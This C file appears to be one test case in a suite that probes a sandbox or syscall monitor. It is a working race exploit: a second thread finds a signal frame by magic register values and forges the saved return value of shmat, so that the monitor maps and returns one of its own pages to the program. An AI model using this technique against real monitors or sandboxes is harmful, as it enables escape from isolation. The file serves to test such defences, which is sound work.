/*
 * S3: the monitor makes a call for the program, and a signal comes at its end: another thread
 * writes another result into the frame, the address of a page of the monitor's, which the monitor
 * would then give to the program as what shmat has mapped. Natively the caller itself is told so.
 */
#include "attack.h"
#include <pthread.h>
#include <sys/shm.h>
#include <time.h>

#define SECONDS     10LL
#define STACK_SIZE  65536UL
#define FRAME_WORDS 1500L
#define INTERVAL    300000 /* ns; the emulated machine handles few signals in that time */
#define ROUNDS      200

static const uint64_t magic[2] = {0x1111222233334444UL, 0x5555666677778888UL}; /* R14, R15 */
enum { R15_TO_R11 = -4, R15_TO_RAX = 6 }; /* struct sigcontext */

static volatile uint64_t *frames_end; /* the kernel's frames lie below it */
static volatile uint64_t *kept_r15;   /* in the frame of a signal */
static volatile uint64_t target;
static volatile int stop, seen;
static bool monitored;

/* The thread block has two frames' room below it, and below that the part for the kernel's. */
static volatile uint64_t *own_frames_end(void)
{
    uint64_t room = (getauxval(AT_MINSIGSTKSZ) + 1024 + PAGE - 1) / PAGE * PAGE;
    return thread_block() - 2 * room / sizeof(uint64_t);
}

/* The other thread has time, but not all: on a busy machine the next signal comes meanwhile. */
static void on_signal(int signo, siginfo_t *info, void *context)
{
    static greg_t rounds_left;
    greg_t before = rounds_left;
    (void)signo, (void)info;
    rounds_left = ((ucontext_t *)context)->uc_mcontext.gregs[REG_R12];
    if (rounds_left != before) {
        sched_yield();
    }
}

static void find_frame(void)
{
    for (volatile uint64_t *word = frames_end - FRAME_WORDS; word < frames_end - 8; word++) {
        if (word[0] == magic[0] && word[1] == magic[1]) {
            kept_r15 = word + 1;
        }
    }
}

static bool target_is_open(int pipe_end)
{
    return monitored && write(pipe_end, (const void *)(uintptr_t)target, 1) == 1;
}

static void *forge(void *nothing)
{
    int ends[2];
    MUST(pipe(ends));
    while (!stop && kept_r15 == NULL) {
        find_frame();
    }
    for (bool last = false; !last;) {
        last = stop; /* what the last stores did is looked at, too */
        if (target_is_open(ends[1])) {
            seen = stop = 1;
        }
        for (int i = 0; i < 10000 && !stop; i++) {
            kept_r15[R15_TO_RAX] = kept_r15[R15_TO_R11] = target;
        }
    }
    return nothing;
}

/* Attaches and detaches; where another address is given than shmat can give, that is seen. */
static void attach_often(int id)
{
    uint64_t forged = 0;
    __asm__ volatile(
        "movl %[rounds], %%r12d\n\t"
        "movq %[first], %%r14\n\t"
        "movq %[second], %%r15\n"
        "1:\n\t"
        "movl %[shmat], %%eax\n\t"
        "movl %[id], %%edi\n\t"
        "xorl %%esi, %%esi\n\t"
        "xorl %%edx, %%edx\n\t"
        "syscall\n\t"
        "movq %%rax, %%r13\n\t"
        "cmpq %[target], %%r13\n\t"
        "jne 2f\n\t"
        "movl $1, %[forged]\n"
        "2:\n\t"
        "movl %[shmdt], %%eax\n\t"
        "movq %%r13, %%rdi\n\t"
        "syscall\n\t"
        "decl %%r12d\n\t"
        "jnz 1b"
        : [forged] "+m"(forged)
        : [id] "b"(id), [target] "m"(target), [rounds] "i"(ROUNDS), [shmat] "i"(SYS_shmat),
          [shmdt] "i"(SYS_shmdt), [first] "m"(magic[0]), [second] "m"(magic[1])
        : "rax", "rcx", "rdx", "rdi", "rsi", "r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15",
          "memory", "cc");
    if (forged != 0 && !monitored) {
        seen = stop = 1;
    }
}

static void start_timer(void)
{
    struct sigevent event = {.sigev_notify = SIGEV_THREAD_ID, .sigev_signo = SIGUSR1};
    long interval = getenv("ENDORUN_VM") ? 10 * INTERVAL : INTERVAL;
    const struct itimerspec times = {{0, interval}, {0, interval}};
    timer_t timer;
    event._sigev_un._tid = gettid();
    MUST(timer_create(CLOCK_MONOTONIC, &event, &timer));
    MUST(timer_settime(timer, 0, &times, NULL));
}

int main(void)
{
    monitored = under_monitor();
    bool until_won = must_win();
    int id = MUST(shmget(IPC_PRIVATE, PAGE, 0600));
    struct sigaction action = {.sa_sigaction = on_signal,
                               .sa_flags = SA_SIGINFO | SA_RESTART | SA_ONSTACK};
    uint8_t *stack = map_pages(STACK_SIZE, PROT_READ | PROT_WRITE);
    const stack_t alternate = {.ss_sp = stack, .ss_size = STACK_SIZE};
    const uint64_t signals = 1UL << (SIGUSR1 - 1);
    pthread_t thread;
    MUST(sigaltstack(&alternate, NULL));
    MUST(sigaction(SIGUSR1, &action, NULL));
    target = (uint64_t)(uintptr_t)target_page();
    frames_end = monitored ? own_frames_end() : (uint64_t *)(uintptr_t)(stack + STACK_SIZE);
    raw(SYS_rt_sigprocmask, SIG_BLOCK, &signals, NULL, sizeof signals);
    start_timer();
    CHECK_EQ(pthread_create(&thread, NULL, forge, NULL), 0, "pthread_create");
    const long long end = monotonic_ns() + SECONDS * 1000000000;
    while (!stop && (until_won || monotonic_ns() < end)) {
        raw(SYS_rt_sigprocmask, SIG_UNBLOCK, &signals, NULL, sizeof signals); /* and no check */
        attach_often(id);
        raw(SYS_rt_sigprocmask, SIG_BLOCK, &signals, NULL, sizeof signals);
    }
    stop = 1;
    pthread_join(thread, NULL);
    shmctl(id, IPC_RMID, NULL);
    if (seen) {
        reached();
    }
    not_reached("none-seen");
}
